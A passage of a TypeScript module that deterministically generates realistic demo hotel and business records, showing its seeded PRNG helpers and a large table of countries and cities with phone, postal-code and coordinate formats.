/**
 * Deterministic, realistic demo businesses for the directory (mostly hotels).
 *
 * Pure: no I/O, no Date.now(), no Math.random(). `demoBusiness(i)` is a function of `i` only:
 *  - the city comes from a golden-ratio (Weyl) sequence over Zipf-weighted cities, so any window of
 *    N consecutive indices contains every city in close to its expected proportion (small countries
 *    and tail cities show up reliably even in small datasets);
 *  - everything else comes from a mulberry32 stream seeded with a hash of the index;
 *  - the place id embeds a bijective 32-bit hash of the index, so it is unique for 0 <= i < 2^32.
 *
 * Rare adversarial names (index 7, 50 007, 100 007, …) exercise escaping downstream.
 */

import type { BusinessRecord } from "../app/lib/business/business-record";

/** A demo business: a cleaned import record (the schema's fields) that always has its place id and date. */
export type DemoBusiness = BusinessRecord & {
  placeId: string; // "ChIJ" + 23 base64url characters, unique per index
  createdAt: number; // unix seconds
};

// ---------------------------------------------------------------------------------------------
// PRNG: one module-level mulberry32 state, reset at the start of every record (synchronous use).
// ---------------------------------------------------------------------------------------------

let prngState = 0;

function u32(): number {
  prngState = (prngState + 0x6d2b79f5) | 0;
  let t = prngState;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return (t ^ (t >>> 14)) >>> 0;
}

function rnd(): number {
  return u32() / 4294967296;
}

/** murmur3 finalizer: a bijection on 32-bit integers. */
function fmix32(h: number): number {
  h >>>= 0;
  h ^= h >>> 16;
  h = Math.imul(h, 0x85ebca6b);
  h ^= h >>> 13;
  h = Math.imul(h, 0xc2b2ae35);
  h ^= h >>> 16;
  return h >>> 0;
}

function pick<T>(items: readonly T[]): T {
  return items[(rnd() * items.length) | 0] as T;
}

/** Approximately standard normal (Irwin–Hall with 4 terms), cheap and bounded (±3.46). */
function gauss(): number {
  return (rnd() + rnd() + rnd() + rnd() - 2) * 1.7320508;
}

class Weighted<T> {
  readonly items: T[];
  private readonly cum: Float64Array;
  private readonly total: number;
  constructor(pairs: ReadonlyArray<readonly [T, number]>) {
    this.items = pairs.map((p) => p[0]);
    this.cum = new Float64Array(pairs.length);
    let sum = 0;
    pairs.forEach((p, i) => {
      sum += p[1];
      this.cum[i] = sum;
    });
    this.total = sum;
  }
  /** u in [0, 1). */
  at(u: number): T {
    const target = u * this.total;
    let lo = 0;
    let hi = this.cum.length - 1;
    while (lo < hi) {
      const mid = (lo + hi) >>> 1;
      if ((this.cum[mid] as number) > target) hi = mid;
      else lo = mid + 1;
    }
    return this.items[lo] as T;
  }
  pick(): T {
    return this.at(rnd());
  }
}

const list = (s: string): string[] => s.split(",").map((x) => x.trim()).filter(Boolean);

// ---------------------------------------------------------------------------------------------
// Countries and cities.
//   ph: "dial|nsn|groups|split|sep|areaSep|defaultAreas" — national number = area + random digits
//       up to nsn digits; groups "4,4/7=3,4" means chunks of 4,4 (or 3,4 when 7 digits remain).
//   pc: postal format (# digit, L letter, X letter or digit), "GB" for UK postcodes, "" for none.
//   ad: address style; st: street pool; lang: name pool / templates; lang2: second language.
//   cities: "name|lat|lon|postal prefixes (/-separated)|area code|region|time zone|lang",
//           most important first (Zipf-like weights by rank).
// ---------------------------------------------------------------------------------------------

interface CountryDef {
  cc: string;
  name: string;
  w: number;
  lang: string;
  lang2?: string;
  st: string;
  tz: string;
  adj: string;
  ph: string;
  pc: string;
  ad: AddressStyle;
  cities: string;
}

type AddressStyle = "us" | "au" | "gb" | "eu" | "it" | "br" | "mx" | "cp" | "none";

const COUNTRY_DEFS: CountryDef[] = [
  {
    cc: "US", name: "United States", w: 13, lang: "en", st: "us", tz: "America/New_York", adj: "American",
    ph: "1|10|3,4|1|-|-|", pc: "#####", ad: "us",
    cities: `New York|40.7128|-74.0060|100|212|NY
Los Angeles|34.0522|-118.2437|900|213|CA|America/Los_Angeles
Las Vegas|36.1699|-115.1398|891|702|NV|America/Los_Angeles
Orlando|28.5384|-81.3789|328|407|FL
Miami|25.7617|-80.1918|331|305|FL
San Francisco|37.7749|-122.4194|941|415|CA|America/Los_Angeles
Chicago|41.8781|-87.6298|606|312|IL|America/Chicago
Washington|38.9072|-77.0369|200|202|DC
Honolulu|21.3069|-157.8583|968|808|HI|Pacific/Honolulu
Boston|42.3601|-71.0589|021|617|MA
New Orleans|29.9511|-90.0715|701|504|LA|America/Chicago
San Diego|32.7157|-117.1611|921|619|CA|America/Los_Angeles
Nashville|36.1627|-86.7816|372|615|TN|America/Chicago
Seattle|47.6062|-122.3321|981|206|WA|America/Los_Angeles
Miami Beach|25.7907|-80.1300|331|305|FL
Austin|30.2672|-97.7431|787|512|TX|America/Chicago
Denver|39.7392|-104.9903|802|303|CO|America/Denver
Houston|29.7604|-95.3698|770|713|TX|America/Chicago
Dallas|32.7767|-96.7970|752|214|TX|America/Chicago
Philadelphia|39.9526|-75.1652|191|215|PA
Atlanta|33.7490|-84.3880|303|404|GA
San Antonio|29.4241|-98.4936|782|210|TX|America/Chicago
Phoenix|33.4484|-112.0740|850|602|AZ|America/Phoenix
Portland|45.5152|-122.6784|972|503|OR|America/Los_Angeles
Savannah|32.0809|-81.0912|314|912|GA
Charleston|32.7765|-79.9311|294|843|SC
Key West|24.5551|-81.7800|330|305|FL
Tampa|27.9506|-82.4572|336|813|FL
Scottsdale|33.4942|-111.9261|852|480|AZ|America/Phoenix
Santa Fe|35.6870|-105.9378|875|505|NM|America/Denver
Sedona|34.8697|-111.7610|863|928|AZ|America/Phoenix
Palm Springs|33.8303|-116.5453|922|760|CA|America/Los_Angeles
Anchorage|61.2181|-149.9003|995|907|AK|America/Anchorage
Salt Lake City|40.7608|-111.8910|841|801|UT|America/Denver
Minneapolis|44.9778|-93.2650|554|612|MN|America/Chicago
Detroit|42.3314|-83.0458|482|313|MI|America/Detroit
San Jose|37.3382|-121.8863|951|408|CA|America/Los_Angeles
Sacramento|38.5816|-121.4944|958|916|CA|America/Los_Angeles
Pittsburgh|40.4406|-79.9959|152|412|PA
Baltimore|39.2904|-76.6122|212|410|MD
St. Louis|38.6270|-90.1994|631|314|MO|America/Chicago
Kansas City|39.0997|-94.5786|641|816|MO|America/Chicago
Charlotte|35.2271|-80.8431|282|704|NC
Asheville|35.5951|-82.5515|288|828|NC
Napa|38.2975|-122.2869|945|707|CA|America/Los_Angeles
Myrtle Beach|33.6891|-78.8867|295|843|SC
Memphis|35.1495|-90.0490|381|901|TN|America/Chicago
Indianapolis|39.7684|-86.1581|462|317|IN|America/Indiana/Indianapolis
Milwaukee|43.0389|-87.9065|532|414|WI|America/Chicago
Albuquerque|35.0844|-106.6504|871|505|NM|America/Denver
Tucson|32.2226|-110.9747|857|520|AZ|America/Phoenix
Jackson|43.4799|-110.7624|830|307|WY|America/Denver
Aspen|39.1911|-106.8175|816|970|CO|America/Denver
Burlington|44.4759|-73.2121|054|802|VT`,
  },
  {
    cc: "GB", name: "United Kingdom", w: 6.5, lang: "en", st: "gb", tz: "Europe/London", adj: "British",
    ph: "44|10|4,4/7=3,4/6=6/5=5|1|||", pc: "GB", ad: "gb",
    cities: `London|51.5074|-0.1278|SW1A/W1J/WC2N/EC1V/SE1/E1/N1/NW1/W2/SW7/EC2A/WC1H/W8/SW3/E14|20
Edinburgh|55.9533|-3.1883|EH|131
Manchester|53.4808|-2.2426|M|161
Liverpool|53.4084|-2.9916|L|151
Birmingham|52.4862|-1.8904|B|121
Glasgow|55.8642|-4.2518|G|141
Bath|51.3811|-2.3590|BA|1225
Oxford|51.7520|-1.2577|OX|1865
York|53.9600|-1.0873|YO|1904
Cambridge|52.2053|0.1218|CB|1223
Brighton|50.8225|-0.1372|BN|1273
Bristol|51.4545|-2.5879|BS|117
Leeds|53.8008|-1.5491|LS|113
Newcastle upon Tyne|54.9783|-1.6178|NE|191
Cardiff|51.4816|-3.1791|CF|29
Belfast|54.5973|-5.9301|BT|28
Inverness|57.4778|-4.2247|IV|1463
Aberdeen|57.1497|-2.0943|AB|1224
Nottingham|52.9548|-1.1581|NG|115
Sheffield|53.3811|-1.4701|S|114
Newquay|50.4155|-5.0737|TR|1637
St Ives|50.2083|-5.4908|TR|1736
Canterbury|51.2802|1.0789|CT|1227
Windsor|51.4817|-0.6136|SL|1753
Stratford-upon-Avon|52.1917|-1.7073|CV|1789
Bournemouth|50.7192|-1.8808|BH|1202
Plymouth|50.3755|-4.1427|PL|1752
Exeter|50.7184|-3.5339|EX|1392
Blackpool|53.8175|-3.0357|FY|1253
Keswick|54.6013|-3.1347|CA|17687
Windermere|54.3806|-2.9071|LA|15394
Portsmouth|50.8198|-1.0880|PO|23
Southampton|50.9097|-1.4044|SO|23
Leicester|52.6369|-1.1398|LE|116
Norwich|52.6309|1.2974|NR|1603
Chester|53.1934|-2.8931|CH|1244
St Andrews|56.3398|-2.7967|KY|1334
Llandudno|53.3241|-3.8276|LL|1492
Fort William|56.8198|-5.1052|PH|1397`,
  },
  {
    cc: "DE", name: "Germany", w: 6.5, lang: "de", st: "de", tz: "Europe/Berlin", adj: "German",
    ph: "49|10|20|1|||", pc: "#####", ad: "eu",
    cities: `Berlin|52.5200|13.4050|10|30
München|48.1351|11.5820|80|89
Hamburg|53.5511|9.9937|20|40
Frankfurt am Main|50.1109|8.6821|60|69
Köln|50.9375|6.9603|50|221
Düsseldorf|51.2277|6.7735|40|211
Dresden|51.0504|13.7373|01|351
Stuttgart|48.7758|9.1829|70|711
Heidelberg|49.3988|8.6724|69|6221
Nürnberg|49.4521|11.0767|90|911
Leipzig|51.3397|12.3731|04|341
Bremen|53.0793|8.8017|28|421
Hannover|52.3759|9.7320|30|511
Freiburg im Breisgau|47.9990|7.8421|79|761
Rothenburg ob der Tauber|49.3772|10.1867|91541|9861
Garmisch-Partenkirchen|47.4917|11.0955|82467|8821
Füssen|47.5707|10.7017|87629|8362
Baden-Baden|48.7606|8.2398|76530|7221
Lübeck|53.8655|10.6866|23|451
Potsdam|52.3906|13.0645|14|331
Regensburg|49.0134|12.1016|93|941
Würzburg|49.7913|9.9534|97|931
Bamberg|49.8988|10.9028|96|951
Trier|49.7499|6.6371|54|651
Konstanz|47.6603|9.1758|78462|7531
Berchtesgaden|47.6316|13.0019|83471|8652
Sylt|54.9079|8.3033|25980|4651
Rostock|54.0924|12.0991|18|381
Münster|51.9607|7.6261|48|251
Essen|51.4556|7.0116|45|201
Dortmund|51.5136|7.4653|44|231
Aachen|50.7753|6.0839|52|241
Mainz|49.9929|8.2473|55|6131
Wiesbaden|50.0782|8.2398|65|611
Augsburg|48.3705|10.8978|86|821
Görlitz|51.1526|14.9872|02826|3581`,
  },
  {
    cc: "FR", name: "France", w: 7, lang: "fr", st: "fr", tz: "Europe/Paris", adj: "French",
    ph: "33|9|1,2,2,2,2|0|||1", pc: "#####", ad: "eu",
    cities: `Paris|48.8566|2.3522|75001/75002/75003/75004/75005/75006/75007/75008/75009/75010/75011/75012/75014/75015/75016/75017/75018|1
Nice|43.7102|7.2620|06000/06100/06200/06300|4
Lyon|45.7640|4.8357|69001/69002/69003/69005/69006/69007|4
Marseille|43.2965|5.3698|13001/13002/13006/13007/13008|4
Bordeaux|44.8378|-0.5792|33000/33300/33800|5
Strasbourg|48.5734|7.7521|67000|3
Cannes|43.5528|7.0174|06400|4
Toulouse|43.6047|1.4442|31000|5
Montpellier|43.6108|3.8767|34000|4
Lille|50.6292|3.0573|59000/59800|3
Nantes|47.2184|-1.5536|44000|2
Avignon|43.9493|4.8055|84000|4
Annecy|45.8992|6.1294|74000|4
Chamonix-Mont-Blanc|45.9237|6.8694|74400|4
Biarritz|43.4832|-1.5586|64200|5
Saint-Malo|48.6493|-2.0257|35400|2
Colmar|48.0794|7.3585|68000|3
Reims|49.2583|4.0317|51100|3
Aix-en-Provence|43.5297|5.4474|13090/13100|4
Carcassonne|43.2121|2.3537|11000|4
Antibes|43.5808|7.1251|06600|4
Saint-Tropez|43.2727|6.6406|83990|4
La Rochelle|46.1603|-1.1511|17000|5
Rennes|48.1173|-1.6778|35000|2
Tours|47.3941|0.6848|37000|2
Dijon|47.3220|5.0415|21000|3
Arles|43.6766|4.6278|13200|4
Ajaccio|41.9192|8.7386|20000|4
Versailles|48.8049|2.1204|78000|1
Lourdes|43.0947|-0.0459|65100|5
Grenoble|45.1885|5.7245|38000|4
Honfleur|49.4189|0.2329|14600|2`,
  },
  {
    cc: "IT", name: "Italy", w: 7, lang: "it", st: "it", tz: "Europe/Rome", adj: "Italian",
    ph: "39|10|4,4/7=3,4/6=6|1|||06", pc: "#####", ad: "it",
    cities: `Roma|41.9028|12.4964|00184/00185/00186/00187/00193/00153|06|RM
Venezia|45.4408|12.3155|30121/30122/30124/30125|041|VE
Milano|45.4642|9.1900|20121/20122/20123/20124|02|MI
Firenze|43.7696|11.2558|50122/50123/50125|055|FI
Napoli|40.8518|14.2681|80121/80132/80134|081|NA
Torino|45.0703|7.6869|10121/10122/10123|011|TO
Bologna|44.4949|11.3426|40121/40122/40124|051|BO
Verona|45.4384|10.9916|37121/37122|045|VR
Sorrento|40.6263|14.3758|80067|081|NA
Como|45.8081|9.0852|22100|031|CO
Positano|40.6280|14.4850|84017|089|SA
Palermo|38.1157|13.3615|90133/90134/90139|091|PA
Taormina|37.8516|15.2853|98039|0942|ME
Amalfi|40.6340|14.6027|84011|089|SA
Pisa|43.7228|10.4017|56125/56126|050|PI
Siena|43.3188|11.3308|53100|0577|SI
Catania|37.5079|15.0830|95124/95131|095|CT
Genova|44.4056|8.9463|16121/16123/16124|010|GE
Bari|41.1171|16.8719|70121/70122|080|BA
Cagliari|39.2238|9.1217|09124/09125|070|CA
Lecce|40.3515|18.1750|73100|0832|LE
Rimini|44.0678|12.5695|47921|0541|RN
Bergamo|45.6983|9.6773|24121/24122|035|BG
Trieste|45.6495|13.7768|34121/34122|040|TS
Lucca|43.8429|10.5027|55100|0583|LU
Perugia|43.1107|12.3908|06121/06122|075|PG
Matera|40.6663|16.6043|75100|0835|MT
Bolzano|46.4983|11.3548|39100|0471|BZ
Cortina d'Ampezzo|46.5405|12.1357|32043|0436|BL
Capri|40.5532|14.2222|80073|081|NA
Riva del Garda|45.8857|10.8413|38066|0464|TN
Alghero|40.5589|8.3196|07041|079|SS`,
  },
  {
    cc: "ES", name: "Spain", w: 7, lang: "es", st: "es", tz: "Europe/Madrid", adj: "Spanish",
    ph: "34|9|3,2,2,2|0|||91", pc: "#####", ad: "eu",
    cities: `Barcelona|41.3874|2.1686|08001/08002/08003/08007/08008/08010/08036|93
Madrid|40.4168|-3.7038|28001/28004/28005/28012/28013/28014/28015|91
Sevilla|37.3891|-5.9845|41001/41002/41003/41004|95
Valencia|39.4699|-0.3763|46001/46002/46003/46004|96
Málaga|36.7213|-4.4214|29001/29005/29015/29016|95
Palma|39.5696|2.6502|07001/07002/07003/07012|971
Granada|37.1773|-3.5986|18001/18009/18010|958
Ibiza|38.9067|1.4206|07800|971
Marbella|36.5101|-4.8825|29601/29602|95
San Sebastián|43.3183|-1.9812|20003/20004|943
Santa Cruz de Tenerife|28.4636|-16.2518|38001/38002|922||Atlantic/Canary
Bilbao|43.2630|-2.9350|48001/48005/48009|94
Las Palmas de Gran Canaria|28.1235|-15.4363|35001/35002/35007|928||Atlantic/Canary
Córdoba|37.8882|-4.7794|14001/14002/14003|957
Alicante|38.3452|-0.4810|03001/03002/03003|96
Benidorm|38.5411|-0.1225|03501/03502/03503|96
Salamanca|40.9701|-5.6635|37001/37002|923
Toledo|39.8628|-4.0273|45001/45002|925
Cádiz|36.5271|-6.2886|11001/11002/11003|956
Zaragoza|41.6488|-0.8891|50001/50003/50004|976
Santiago de Compostela|42.8782|-8.5448|15701/15703/15704|981
Segovia|40.9429|-4.1088|40001/40002|921
Tarragona|41.1189|1.2445|43001/43003|977
Girona|41.9794|2.8214|17001/17002/17004|972
Torremolinos|36.6203|-4.4997|29620|95
Sitges|41.2351|1.8117|08870|93
Puerto de la Cruz|28.4142|-16.5486|38400|922||Atlantic/Canary
Maspalomas|27.7606|-15.5860|35100|928||Atlantic/Canary
Ronda|36.7462|-5.1612|29400|95
Oviedo|43.3614|-5.8593|33001/33003/33004|985
Mahón|39.8885|4.2658|07701/07703|971
Nerja|36.7581|-3.8744|29780|95`,
  },
  {
    cc: "TR", name: "Türkiye", w: 5, lang: "tr", st: "tr", tz: "Europe/Istanbul", adj: "Turkish",
    ph: "90|10|3,3,2,2|0|||212", pc: "#####", ad: "eu",
    cities: `İstanbul|41.0082|28.9784|34110/34122/34425/34430/34435/34349/34357|212
Antalya|36.8969|30.7133|07100/07160/07050|242
İzmir|38.4237|27.1428|35210/35220/35250|232
Bodrum|37.0344|27.4305|48400|252
Alanya|36.5444|31.9954|07400|242
Fethiye|36.6214|29.1164|48300|252
Kemer|36.5979|30.5595|07980|242
Marmaris|36.8550|28.2742|48700|252
Kuşadası|37.8579|27.2610|09400|256
Ankara|39.9334|32.8597|06420/06680/06690|312
Göreme|38.6431|34.8289|50180|384
Çeşme|38.3236|26.3028|35930|232
Side|36.7675|31.3890|07330|242
Belek|36.8625|31.0556|07506|242
Kaş|36.2018|29.6377|07580|242
Bursa|40.1885|29.0610|16010/16040|224
Trabzon|41.0027|39.7168|61030/61040|462
Pamukkale|37.9137|29.1187|20190|258
Ölüdeniz|36.5497|29.1149|48340|252
Dalyan|36.8339|28.6428|48840|252
Didim|37.3756|27.2675|09270|256
Ayvalık|39.3190|26.6936|10400|266
Çanakkale|40.1553|26.4142|17100|286
Edirne|41.6771|26.5557|22100|284
Konya|37.8746|32.4932|42030/42060|332
Gaziantep|37.0662|37.3833|27010/27060|342
Şanlıurfa|37.1591|38.7969|63050|414
Eskişehir|39.7767|30.5206|26010/26130|222
Mardin|37.3212|40.7245|47100|482
Safranbolu|41.2547|32.6925|78600|370
Uzungöl|40.6192|40.2894|61940|462
Adana|37.0000|35.3213|01010/01120|322
Kayseri|38.7205|35.4826|38010/38030|352
Sapanca|40.6915|30.2685|54600|264`,
  },
  {
    cc: "CH", name: "Switzerland", w: 1.6, lang: "de", st: "ch", tz: "Europe/Zurich", adj: "Swiss",
    ph: "41|9|2,3,2,2|0|||44", pc: "####", ad: "eu",
    cities: `Zürich|47.3769|8.5417|8001/8002/8003/8004/8005/8008|44
Genève|46.2044|6.1432|1201/1202/1204/1207|22|||fr
Luzern|47.0502|8.3093|6002/6003/6004|41
Interlaken|46.6863|7.8632|3800|33
Zermatt|46.0207|7.7491|3920|27
Basel|47.5596|7.5886|4001/4051/4058|61
Bern|46.9480|7.4474|3011/3013|31
Lausanne|46.5197|6.6323|1003/1004/1006|21|||fr
Lugano|46.0037|8.9511|6900|91|||it
St. Moritz|46.4908|9.8355|7500|81
Grindelwald|46.6242|8.0414|3818|33
Montreux|46.4312|6.9107|1820|21|||fr
Davos|46.8027|9.8360|7270|81
Locarno|46.1709|8.7995|6600|91|||it
Engelberg|46.8196|8.4034|6390|41
Gstaad|46.4747|7.2865|3780|33`,
  },
  {
    cc: "AT", name: "Austria", w: 1.5, lang: "de", st: "de", tz: "Europe/Vienna", adj: "Austrian",
    ph: "43|9|20|1|||1", pc: "####", ad: "eu",
    cities: `Wien|48.2082|16.3738|1010/1020/1030/1040/1050/1060/1070/1080|1
Salzburg|47.8095|13.0550|5020|662
Innsbruck|47.2692|11.4041|6020|512
Hallstatt|47.5622|13.6493|4830|6134
Graz|47.0707|15.4395|8010/8020|316
Kitzbühel|47.4464|12.3922|6370|5356
Zell am See|47.3236|12.7967|5700|6542
St. Anton am Arlberg|47.1287|10.2684|6580|5446
Linz|48.3069|14.2858|4020|732
Mayrhofen|47.1667|11.8667|6290|5285
Sölden|46.9658|11.0078|6450|5254
Bad Gastein|47.1150|13.1335|5640|6434`,
  },
  {
    cc: "NL", name: "Netherlands", w: 1.5, lang: "nl", st: "nl", tz: "Europe/Amsterdam", adj: "Dutch",
    ph: "31|9|3,4/6=6|1|||20", pc: "#### LL", ad: "eu",
    cities: `Amsterdam|52.3676|4.9041|1011/1012/1015/1016/1017/1071|20
Rotterdam|51.9244|4.4777|3011/3012/3014|10
Den Haag|52.0705|4.3007|2511/2513/2514|70
Utrecht|52.0907|5.1214|3511/3512|30
Maastricht|50.8514|5.6910|6211|43
Haarlem|52.3874|4.6462|2011|23
Eindhoven|51.4416|5.4697|5611|40
Groningen|53.2194|6.5665|9711|50
Leiden|52.1601|4.4970|2311|71
Delft|52.0116|4.3571|2611|15
Zandvoort|52.3713|4.5332|2042|23`,
  },
  {
    cc: "BE", name: "Belgium", w: 0.8, lang: "nl", lang2: "fr", st: "nl", tz: "Europe/Brussels", adj: "Belgian",
    ph: "32|8|3,2,2/6=2,2,2|1|||2", pc: "####", ad: "eu",
    cities: `Bruxelles|50.8503|4.3517|1000/1050/1060|2|||fr
Brugge|51.2093|3.2247|8000|50
Antwerpen|51.2194|4.4025|2000/2018|3
Gent|51.0543|3.7174|9000|9
Liège|50.6326|5.5797|4000|4|||fr
Namur|50.4674|4.8720|5000|81|||fr
Leuven|50.8798|4.7005|3000|16
Oostende|51.2154|2.9270|8400|59`,
  },
  {
    cc: "PT", name: "Portugal", w: 2, lang: "pt", st: "pt", tz: "Europe/Lisbon", adj: "Portuguese",
    ph: "351|9|3,3,3|0|||21", pc: "####-###", ad: "eu",
    cities: `Lisboa|38.7223|-9.1393|1100/1150/1200/1249/1250|21
Porto|41.1579|-8.6291|4000/4050|22
Albufeira|37.0891|-8.2479|8200|289
Funchal|32.6669|-16.9241|9000/9004/9060|291||Atlantic/Madeira
Lagos|37.1028|-8.6731|8600|282
Faro|37.0194|-7.9304|8000|289
Sintra|38.8029|-9.3817|2710|21
Cascais|38.6979|-9.4215|2750|21
Coimbra|40.2033|-8.4103|3000|239
Évora|38.5714|-7.9135|7000|266
Ponta Delgada|37.7412|-25.6756|9500|296||Atlantic/Azores
Braga|41.5454|-8.4265|4700|253
Portimão|37.1387|-8.5377|8500|282
Nazaré|39.6012|-9.0709|2450|262`,
  },
  {
    cc: "GR", name: "Greece", w: 2.5, lang: "el", st: "el", tz: "Europe/Athens", adj: "Greek",
    ph: "30|10|4,4/6=6/5=5|1|||21", pc: "### ##", ad: "gb",
    cities: `Athina|37.9838|23.7275|105 57/105 58/106 82/117 42|21
Thira|36.4165|25.4323|847 00|22860
Mykonos|37.4467|25.3289|846 00|22890
Thessaloniki|40.6401|22.9444|546 21/546 22/546 24|2310
Heraklion|35.3387|25.1442|712 01/712 02|2810
Chania|35.5138|24.0180|731 00/731 31|28210
Rhodes|36.4341|28.2176|851 00|22410
Corfu|39.6243|19.9217|491 00|26610
Nafplio|37.5673|22.8016|211 00|27520
Zakynthos|37.7870|20.8999|291 00|26950
Paros|37.0856|25.1487|844 00|22840
Naxos|37.1036|25.3766|843 00|22850
Kos|36.8933|27.2889|853 00|22420
Rethymno|35.3656|24.4822|741 00|28310
Piraeus|37.9420|23.6465|185 31/185 36|21
Kalambaka|39.7066|21.6276|422 00|24320`,
  },
  {
    cc: "HR", name: "Croatia", w: 1.2, lang: "hr", st: "hr", tz: "Europe/Zagreb", adj: "Croatian",
    ph: "385|9|4,4/7=3,4/6=3,3|1|||1", pc: "#####", ad: "eu",
    cities: `Dubrovnik|42.6507|18.0944|20000|20
Split|43.5081|16.4402|21000|21
Zagreb|45.8150|15.9819|10000|1
Hvar|43.1729|16.4411|21450|21
Rovinj|45.0812|13.6387|52210|52
Zadar|44.1194|15.2314|23000|23
Pula|44.8666|13.8496|52100|52
Makarska|43.2969|17.0178|21300|21
Opatija|45.3376|14.3052|51410|51
Plitvička Jezera|44.8654|15.5820|53231|53`,
  },
  {
    cc: "PL", name: "Poland", w: 1.2, lang: "pl", st: "pl", tz: "Europe/Warsaw", adj: "Polish",
    ph: "48|9|3,2,2|1|||22", pc: "##-###", ad: "eu",
    cities: `Kraków|50.0647|19.9450|31-010/31-042/31-052/30-001|12
Warszawa|52.2297|21.0122|00-001/00-024/00-068/00-372|22
Gdańsk|54.3520|18.6466|80-831/80-834/80-837|58
Wrocław|51.1079|17.0385|50-101/50-106/53-611|71
Zakopane|49.2992|19.9496|34-500|18
Poznań|52.4064|16.9252|61-001/61-758/61-772|61
Sopot|54.4418|18.5601|81-701|58
Toruń|53.0138|18.5984|87-100|56
Łódź|51.7592|19.4560|90-001/90-102|42
Lublin|51.2465|22.5684|20-001/20-111|81`,
  },
  {
    cc: "CZ", name: "Czechia", w: 1, lang: "cs", st: "cs", tz: "Europe/Prague", adj: "Czech",
    ph: "420|9|3,3,3|0|||2", pc: "### ##", ad: "eu",
    cities: `Praha|50.0755|14.4378|110 00/118 00/120 00/130 00|2
Český Krumlov|48.8127|14.3175|381 01|380
Brno|49.1951|16.6068|602 00|5
Karlovy Vary|50.2319|12.8710|360 01|35
Olomouc|49.5938|17.2509|779 00|58
Kutná Hora|49.9484|15.2682|284 01|327`,
  },
  {
    cc: "HU", name: "Hungary", w: 0.7, lang: "hu", st: "hu", tz: "Europe/Budapest", adj: "Hungarian",
    ph: "36|8|3,4/6=3,3/5=5|1|||1", pc: "####", ad: "eu",
    cities: `Budapest|47.4979|19.0402|1051/1052/1061/1072/1085|1
Eger|47.9025|20.3772|3300|36
Debrecen|47.5316|21.6273|4024/4025|52
Hévíz|46.7903|17.1867|8380|83
Pécs|46.0727|18.2323|7621|72
Szentendre|47.6694|19.0757|2000|26`,
  },
  {
    cc: "IE", name: "Ireland", w: 0.8, lang: "en", st: "gb", tz: "Europe/Dublin", adj: "Irish",
    ph: "353|8|3,4/6=3,3/5=5|1|||1", pc: "L## XXXX", ad: "cp",
    cities: `Dublin|53.3498|-6.2603|D01/D02/D04/D08|1
Galway|53.2707|-9.0568|H91|91
Cork|51.8985|-8.4756|T12/T23|21
Killarney|52.0599|-9.5044|V93|64
Limerick|52.6638|-8.6267|V94|61
Kilkenny|52.6541|-7.2448|R95|56
Dingle|52.1409|-10.2689|V92|66`,
  },
  {
    cc: "DK", name: "Denmark", w: 0.6, lang: "da", st: "dk", tz: "Europe/Copenhagen", adj: "Danish",
    ph: "45|8|2,2,2,2|0|||33", pc: "####", ad: "eu",
    cities: `København|55.6761|12.5683|1050/1100/1150/1255/1411/1620|33
Aarhus|56.1629|10.2039|8000|86
Odense|55.4038|10.4024|5000|66
Skagen|57.7209|10.5839|9990|98
Billund|55.7306|9.1152|7190|75`,
  },
  {
    cc: "SE", name: "Sweden", w: 0.7, lang: "sv", st: "se", tz: "Europe/Stockholm", adj: "Swedish",
    ph: "46|9|3,3,2/7=3,2,2/6=2,2,2|1|||8", pc: "### ##", ad: "eu",
    cities: `Stockholm|59.3293|18.0686|111 20/111 29/111 52/114 35/116 20|8
Göteborg|57.7089|11.9746|411 03/411 05/411 19|31
Malmö|55.6050|13.0038|211 20/211 43|40
Uppsala|59.8586|17.6389|753 20|18
Visby|57.6348|18.2948|621 55|498
Kiruna|67.8558|20.2253|981 31|980
Åre|63.3990|13.0815|837 52|647`,
  },
  {
    cc: "NO", name: "Norway", w: 0.6, lang: "da", st: "no", tz: "Europe/Oslo", adj: "Norwegian",
    ph: "47|8|2,2,2,2|0|||22", pc: "####", ad: "eu",
    cities: `Oslo|59.9139|10.7522|0150/0151/0152/0250/0159|22
Bergen|60.3913|5.3221|5003/5014/5015|55
Tromsø|69.6492|18.9553|9008|77
Stavanger|58.9700|5.7331|4005/4006|51
Ålesund|62.4722|6.1495|6002|70
Flåm|60.8628|7.1135|5743|57
Trondheim|63.4305|10.3951|7011/7013|73`,
  },
  {
    cc: "FI", name: "Finland", w: 0.4, lang: "fi", st: "fi", tz: "Europe/Helsinki", adj: "Finnish",
    ph: "358|9|4,4/7=3,4/6=3,3|1|||9", pc: "#####", ad: "eu",
    cities: `Helsinki|60.1699|24.9384|00100/00120/00130/00170|9
Rovaniemi|66.5039|25.7294|96100/96200|16
Turku|60.4518|22.2666|20100|2
Tampere|61.4978|23.7610|33100|3`,
  },
  {
    cc: "IS", name: "Iceland", w: 0.3, lang: "is", st: "is", tz: "Atlantic/Reykjavik", adj: "Icelandic",
    ph: "354|7|3,4|0|||5", pc: "###", ad: "eu",
    cities: `Reykjavík|64.1466|-21.9426|101/105/107|5
Akureyri|65.6885|-18.1262|600|46
Vík|63.4186|-19.0060|870|48
Höfn|64.2539|-15.2082|780|47`,
  },
  {
    cc: "RO", name: "Romania", w: 0.5, lang: "ro", st: "ro", tz: "Europe/Bucharest", adj: "Romanian",
    ph: "40|9|3,4/6=3,3|1|||21", pc: "######", ad: "eu",
    cities: `București|44.4268|26.1025|010011/010022/030167/050711|21
Brașov|45.6427|25.5887|500030/500036|268
Cluj-Napoca|46.7712|23.6236|400001/400098|264
Sibiu|45.7983|24.1256|550182|269
Constanța|44.1598|28.6348|900178|241`,
  },
  {
    cc: "BG", name: "Bulgaria", w: 0.5, lang: "ru", st: "bg", tz: "Europe/Sofia", adj: "Bulgarian",
    ph: "359|8|3,4/6=3,3/5=5|1|||2", pc: "####", ad: "eu",
    cities: `Sofia|42.6977|23.3219|1000|2
Varna|43.2141|27.9147|9000|52
Sunny Beach|42.6951|27.7102|8240|554
Plovdiv|42.1354|24.7453|4000|32
Bansko|41.8383|23.4885|2770|749`,
  },
  {
    cc: "RS", name: "Serbia", w: 0.2, lang: "hr", st: "rs", tz: "Europe/Belgrade", adj: "Serbian",
    ph: "381|9|3,4/6=3,3|1|||11", pc: "#####", ad: "eu",
    cities: `Beograd|44.7866|20.4489|11000|11
Novi Sad|45.2671|19.8335|21000|21`,
  },
  {
    cc: "SI", name: "Slovenia", w: 0.2, lang: "hr", st: "si", tz: "Europe/Ljubljana", adj: "Slovenian",
    ph: "386|8|3,2,2/6=2,2,2|1|||1", pc: "####", ad: "eu",
    cities: `Ljubljana|46.0569|14.5058|1000|1
Bled|46.3683|14.1146|4260|4
Piran|45.5283|13.5683|6330|5`,
  },
  {
